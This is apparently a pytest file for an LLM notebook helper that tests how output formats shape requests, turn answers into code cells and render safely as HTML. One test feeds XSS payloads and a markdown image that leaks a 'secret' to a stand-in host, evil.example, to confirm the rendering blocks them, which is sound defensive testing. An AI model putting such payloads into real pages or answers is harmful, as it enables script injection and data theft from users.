"""What `-f` means, for each format."""

import json
import re
from html import unescape

import pytest

from ofox_magic.answer import Answer
from ofox_magic.chat.events import Finished, TextDelta
from ofox_magic.chat.reply import Reply
from ofox_magic.errors import AnswerError, BadRequest, ServerError
from ofox_magic.formats import FORMATS, demand, is_refused, next_cell, to_html, value_of
from ofox_magic.structured import schema_of
from ofox_magic.wiring import Wiring

from .render.allowed import violations

NUMBERS = {"type": "object", "properties": {"a": {"type": "integer"}}, "required": ["a"]}


def said(text):
    reply = Reply()
    reply.feed(TextDelta(text))
    reply.feed(Finished())
    return Answer(reply)


# -- the request ------------------------------------------------------------------------------------------------------


def test_markdown_adds_nothing_to_the_request():
    assert (demand("markdown").params, demand("markdown").system(None)) == ({}, None)
    assert demand("markdown").system("Be brief.") == "Be brief."


def test_text_and_code_are_asked_for_in_words():
    assert demand("text").params == demand("code").params == {}
    assert "plain text" in demand("text").instruction
    assert "Python code only" in demand("code").instruction


def test_json_is_asked_for_by_the_gateways_mode_and_by_the_word_that_it_wants():
    assert demand("json").params == {"response_format": {"type": "json_object"}}
    assert "JSON" in demand("json").instruction


def test_a_schema_goes_in_both_ways():
    schema = schema_of("numbers", NUMBERS)
    assert demand("json", schema).params == {"response_format": schema.response_format}
    assert demand("markdown", schema).instruction == schema.instruction
    assert demand("json", schema_of("list", {"type": "array"})).params == {}


def test_what_the_user_says_to_the_model_comes_first():
    assert demand("json").system("Be brief.") == f"Be brief.\n\n{demand('json').instruction}"


@pytest.mark.parametrize("wanted", FORMATS)
def test_a_gateway_takes_what_each_format_adds(wanted, gateway):
    asked = demand(wanted)
    wiring = Wiring({}, base_url=gateway.base_url, api_key="none")
    answer = wiring.session.ask("one", system=asked.system(None), **asked.params).result()
    wiring.close()
    assert answer.text
    if wanted == "json":
        assert isinstance(answer.json, dict)


@pytest.mark.parametrize(
    ("error", "yes"),
    [
        (BadRequest("'response_format' of type 'json_schema' is not supported with this model", status=400), True),
        (BadRequest("Structured Outputs are not available", status=400), True),
        (BadRequest("temperature must be below 2", status=400), False),
        (ServerError("response_format failed", status=500), False),
    ],
)
def test_a_model_that_takes_no_response_format_is_recognised(error, yes):
    assert is_refused(error) is yes


# -- the value --------------------------------------------------------------------------------------------------------


def test_the_value_is_what_was_asked_for():
    answer = said('```json\n{"a": 1}\n```')
    assert value_of(answer, "json") == {"a": 1}
    assert value_of(answer, "markdown", schema_of("numbers", NUMBERS)) == {"a": 1}
    for wanted in ("markdown", "text", "code"):
        assert value_of(answer, wanted) is answer


def test_a_value_that_is_not_as_asked_is_refused():
    with pytest.raises(AnswerError, match="expected JSON"):
        value_of(said("Sorry."), "json")
    with pytest.raises(AnswerError, match="a: 'x' is not of type 'integer'"):
        value_of(said('{"a": "x"}'), "json", schema_of("numbers", NUMBERS))


# -- the next cell ----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "source"),
    [
        ("```python\nx = 1\n```", "x = 1"),
        ("First:\n```python\nx = 1\n```\nthen:\n```py\n\ny = 2\n\n```\n", "x = 1\n\ny = 2"),
        ("- so:\n  ```python\n  if x:\n      y()\n  ```", "if x:\n    y()"),
        ("```python\nx = 1", "x = 1"),
        ("```\nx = 1\n```\nand\n```\ny = 2\n```", "x = 1\n\ny = 2"),
        ("```python\nprint(3)\n```\nIt prints\n```\n3\n```", "print(3)"),
        ("```bash\npip install x\n```\n```python\nimport x\n```", "import x"),
        ("```Python\n%time x()\n!ls\n```", "%time x()\n!ls"),
        ("```bash\nls\n```\n```bash\npwd\n```", "%%bash\nls\n\npwd"),
        ("```python\n```\n```\nx\n```", "x"),
        ("import x\n\nx.run()", "import x\n\nx.run()"),
        ("x = 1\nif x:\n\n    y = 2\n", "x = 1\nif x:\n\n    y = 2"),
        ("Try this:\n\n    x = 1\n\nand see.", "x = 1"),
        ("```python\nx\u202e = 1\x1b[0m\n```", "x = 1[0m"),
    ],
)
def test_the_code_of_an_answer_becomes_one_cell(text, source):
    assert next_cell(said(text)) == source


@pytest.mark.parametrize(
    "text",
    [
        "",
        "I cannot do that.",
        "Done",
        "a is b",
        "42",
        "`x = 1`",
        "```python\n\n```",
        "```json\n{}\n```",
        "```javascript\nalert(1)\n```",
        "```bash\nls\n```\n```json\n{}\n```",
        "def broken(:",
        "[" * 10_000,
    ],
)
def test_without_code_for_this_kernel_there_is_no_cell(text):
    assert next_cell(said(text)) is None


@pytest.mark.parametrize("text", ["```python\nboom()\n```", "boom()", "x = boom()"])
def test_no_code_is_ever_run(text, monkeypatch):
    ran = []
    monkeypatch.setattr("builtins.boom", lambda: ran.append(1), raising=False)
    assert "boom()" in next_cell(said(text))
    assert to_html(said(text), "code")
    assert ran == []


# -- how it is shown --------------------------------------------------------------------------------------------------


def words(html):
    return unescape(re.sub("<[^>]*>", "", html))


def test_markdown_is_rendered():
    assert to_html(said("**a**"), "markdown") == "<p><strong>a</strong></p>\n"


def test_text_is_shown_as_it_is():
    assert to_html(said("**a** <b> &amp;\n# c\x1b"), "text") == (
        '<pre class="ofox-plain">**a** &lt;b&gt; &amp;amp;\n# c</pre>\n'
    )


def test_json_is_shown_indented_and_coloured():
    html = to_html(said('So: {"a": ["<b>", 1]}'), "json")
    assert json.loads(words(html)) == {"a": ["<b>", 1]}
    assert words(html).startswith('{\n  "a": [\n')
    assert 'class="ofox-m"' in html


def test_what_is_no_json_is_shown_as_it_is():
    assert to_html(said("**Sorry**"), "json") == '<pre class="ofox-plain">**Sorry**</pre>\n'


def test_code_is_shown_joined_and_without_the_words():
    html = to_html(said("First:\n```python\nx = 1\n```\nthen:\n```python\ny = 2\n```"), "code")
    assert words(html) == "x = 1\n\ny = 2\n\n"
    assert html.startswith('<pre class="ofox-code">')


def test_without_code_the_answer_is_shown():
    assert to_html(said("I *cannot*."), "code") == "<p>I <em>cannot</em>.</p>\n"


@pytest.mark.parametrize("wanted", FORMATS)
@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "```python\n```\n<img src=x onerror=alert(1)>\n",
        '{"a": "</code></pre><script>alert(1)</script>", "b": "```\\n<img src=x>"}',
        "![x](https://evil.example/?q=secret)",
        "print('```')\nprint('<script>alert(1)</script>')",
    ],
)
def test_every_format_is_safe_in_a_page(text, wanted):
    html = to_html(said(text), wanted)
    assert violations(html) == []


def test_looking_whether_an_answer_is_a_program_warns_of_nothing_in_it(recwarn):
    next_cell(said("import re\nprint(re.findall('\\d', text))"))
    assert not recwarn.list
